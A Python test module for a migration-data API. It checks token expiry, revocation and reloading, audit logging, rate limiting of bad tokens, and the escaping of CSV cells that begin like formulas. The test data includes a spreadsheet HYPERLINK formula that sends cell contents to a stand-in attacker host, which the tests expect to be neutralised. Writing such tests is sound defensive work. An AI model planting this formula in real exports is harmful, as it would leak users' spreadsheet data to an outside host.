"""Tokens that expire, are revoked or disabled, and are re-read without a restart; bad tokens audited and
rate-limited; the audit log checked at start and failing closed; CSV cells that start like a formula
neutralised (issue 11, item 4).

A server of its own (its tokens file is rewritten here) over a copy of the API test warehouse with one
more public dataset: IMS 2020's United States rows under a publisher named like a spreadsheet formula
(``=HYPERLINK(...)``), its own series so that no other answer changes.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pandas as pd
import pytest

from corridor.publish.formats.csv import neutralise
from corridor.store.warehouse import DatasetMeta, Warehouse
from tests.publish_api.conftest import EMBARGOED_ID
from tests.serving import corridor_serve

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
FORMULA_ID = "test-formula-publisher"
USA_2020 = 50_632_836  # UN DESA IMS 2020, Table 1, United States of America, 2020
DATA = f"/data/MIG_STOCK/840._T._T?startPeriod=2020&endPeriod=2020&asOf={EMBARGOED_ID}&format=json"


def _entry(name: str, token: str, **extra: object) -> dict:
    return {"name": name, "sha256": hashlib.sha256(token.encode()).hexdigest(), "roles": ["embargoed"], **extra}


def _write_tokens(path: Path, *entries: dict) -> None:
    """Write the tokens file anew (JSON, a valid YAML too) and make sure its mtime moves."""
    before = path.stat().st_mtime_ns if path.exists() else 0
    tmp = path.with_suffix(".tmp")
    tmp.write_text(json.dumps({"tokens": list(entries)}))
    os.replace(tmp, path)
    if path.stat().st_mtime_ns == before:
        os.utime(path, ns=(before + 1_000_000, before + 1_000_000))


@pytest.fixture(scope="module")
def token_server(api_warehouse: Path, tmp_path_factory: pytest.TempPathFactory):
    folder = tmp_path_factory.mktemp("tokens-server")
    warehouse = folder / "corridor.duckdb"
    shutil.copyfile(api_warehouse, warehouse)
    with Warehouse.open(warehouse) as wh:
        rows = wh.observations("MIG_STOCK", ref_area="840", as_of="undesa-ims-2020-sex-destination")
        keep = [c for c in ("dataflow", "ref_area", "counterpart_area", "birthplace", "sex", "age", "time_period",
                            "value", "obs_status", "conf_status", "unit_measure", "unit_mult", "method")
                if c in rows.columns]
        wh.write_dataset(DatasetMeta(dataset_id=FORMULA_ID, series="test-formula", vintage="2020",
                                     publisher=FORMULA, title="TEST ONLY: a publisher named like a formula",
                                     licence="test", concept="mixed_foreign_born_or_citizen", kind="estimate"),
                         rows[keep])
    tokens = folder / "tokens.json"
    _write_tokens(tokens, _entry("current", "current-token"),
                  _entry("expired", "expired-token", expires="2020-01-01T00:00:00Z"),
                  _entry("later", "later-token", expires="2999-01-01"),
                  _entry("revoked", "revoked-token", revoked=True),
                  _entry("disabled", "disabled-token", disabled=True))
    audit = folder / "audit.jsonl"
    with corridor_serve(warehouse, folder, args=["--tokens", str(tokens), "--audit-log", str(audit)],
                        env={"CORRIDOR_TOKENS": "", "CORRIDOR_AUDIT_LOG": ""}) as (url, _proc):
        yield url, tokens, audit


def _get(url: str, token: str | None = None, path: str = DATA) -> httpx.Response:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return httpx.get(url + path, headers=headers, timeout=60)


def _audit(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]


def test_expiry_revocation_and_disabling(token_server):
    url, _tokens, audit = token_server
    for good in ("current-token", "later-token"):
        response = _get(url, good)
        assert response.status_code == 200, response.text
        assert response.json()["observations"][0]["value"] == USA_2020
    answers = {bad: _get(url, bad) for bad in ("expired-token", "revoked-token", "disabled-token", "no-such-token")}
    assert {r.status_code for r in answers.values()} == {401}
    assert len({r.text for r in answers.values()}) == 1  # one answer: it does not say which it was
    for refused in answers.values():  # and nothing of what the token would have opened
        assert EMBARGOED_ID not in refused.text and str(USA_2020) not in refused.text
    refused = [e for e in _audit(audit) if e["reason"].startswith("bad bearer token")]
    assert len(refused) >= 4 and all(e["decision"] == "refused" and e["token"] is None for e in refused)
    text = audit.read_text()
    assert not any(t in text for t in ("expired-token", "revoked-token", "no-such-token"))  # never logged


def test_tokens_file_is_read_again_without_restart(token_server):
    url, tokens, _audit_log = token_server
    assert _get(url, "fresh-token").status_code == 401
    _write_tokens(tokens, _entry("current", "current-token"), _entry("fresh", "fresh-token"))
    deadline = time.monotonic() + 10
    while _get(url, "fresh-token").status_code != 200:
        assert time.monotonic() < deadline, "the new token was not accepted within 10 s"
        time.sleep(0.3)
    _write_tokens(tokens, _entry("current", "current-token"), _entry("fresh", "fresh-token", revoked=True))
    deadline = time.monotonic() + 10
    while _get(url, "fresh-token").status_code != 401:
        assert time.monotonic() < deadline, "the revoked token was still accepted after 10 s"
        time.sleep(0.3)
    assert _get(url, "current-token").status_code == 200


def test_csv_cells_that_start_like_formulas_are_neutralised(token_server):
    url, _tokens, _audit_log = token_server
    data = _get(url, path="/data/MIG_STOCK/840._T._T?startPeriod=2020&endPeriod=2020&format=csv")
    assert data.status_code == 200, data.text
    table = pd.read_csv(pd.io.common.StringIO(data.text))
    sources = set(table["source"])
    assert "'" + FORMULA + ": TEST ONLY: a publisher named like a formula" in sources
    assert not any(s.startswith(("=", "+", "-", "@")) for s in sources)
    listing = pd.read_csv(pd.io.common.StringIO(_get(url, path="/datasets?format=csv").text))
    assert listing.loc[listing["dataset_id"] == FORMULA_ID, "publisher"].item() == "'" + FORMULA
    sdmx_csv = _get(url, path="/data/MIG_STOCK/840._T._T?startPeriod=2020&endPeriod=2020&format=sdmx-csv").text
    assert "\n=" not in sdmx_csv and ",=" not in sdmx_csv
    # negative numbers in numeric columns stay numbers: WPP net migration of the United States is positive,
    # of Mexico negative (UN WPP 2019, net migrants 2015-2020: Mexico -60,000 per year)
    net = pd.read_csv(pd.io.common.StringIO(_get(url, path="/data/NET_MIG/484._T?format=csv").text))
    assert (net["value"] < 0).any() and pd.api.types.is_float_dtype(net["value"])


def test_neutralise_leaves_numbers_alone():
    frame = pd.DataFrame({"text": ["=1+1", "+x", "-y", "@z", "\tq", "plain", None], "value": [-1.5, 2, -3, 4, 5, 6, 7]})
    out = neutralise(frame)
    assert list(out["text"][:6]) == ["'=1+1", "'+x", "'-y", "'@z", "'\tq", "plain"]
    assert pd.isna(out["text"].iloc[6]) and list(out["value"]) == [-1.5, 2, -3, 4, 5, 6, 7]


def test_audit_log_unwritable_at_start_stops_the_server(api_warehouse, tmp_path):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the log's folder should be")
    log = blocker / "audit.jsonl"
    result = subprocess.run(
        [sys.executable, "-m", "corridor.cli.main", "serve", "--warehouse", str(api_warehouse), "--port", "9",
         "--audit-log", str(log)], capture_output=True, text=True, timeout=120,
        env=dict(os.environ, CORRIDOR_TOKENS="", CORRIDOR_AUDIT_LOG=""))
    output = result.stdout + result.stderr
    assert result.returncode == 2, output
    assert "audit log cannot be written" in " ".join(output.split()) and "not-a-folder" in output
    assert "Traceback" not in output


def test_audit_log_lost_while_running_fails_closed(token_server):
    url, _tokens, audit = token_server
    saved = audit.with_suffix(".saved")
    audit.rename(saved)
    audit.mkdir()  # a folder where the log was: appending fails
    try:
        response = _get(url, "current-token")
        assert response.status_code == 503, response.text
        assert str(USA_2020) not in response.text and EMBARGOED_ID not in response.text
        assert _get(url, path="/data/MIG_STOCK/840._T._T?format=json").status_code == 200  # public: unaffected
    finally:
        audit.rmdir()
        saved.rename(audit)


def test_bad_tokens_are_rate_limited(token_server):
    """Last in the module: afterwards this address may not send tokens for a minute."""
    url, _tokens, _audit_log = token_server
    statuses = [_get(url, f"guess-{i}").status_code for i in range(12)]
    # earlier tests of this module sent a few bad tokens too (within the same minute): 401s, then 429s
    first = statuses.index(429)
    assert 0 < first <= 10 and set(statuses[:first]) == {401} and set(statuses[first:]) == {429}
    limited = _get(url, "current-token")  # even a good token waits: the address is guessing
    assert limited.status_code == 429 and int(limited.headers["retry-after"]) > 0
    assert EMBARGOED_ID not in limited.text and str(USA_2020) not in limited.text
    assert _get(url, path="/data/MIG_STOCK/840._T._T?format=json").status_code == 200  # anonymous reads go on
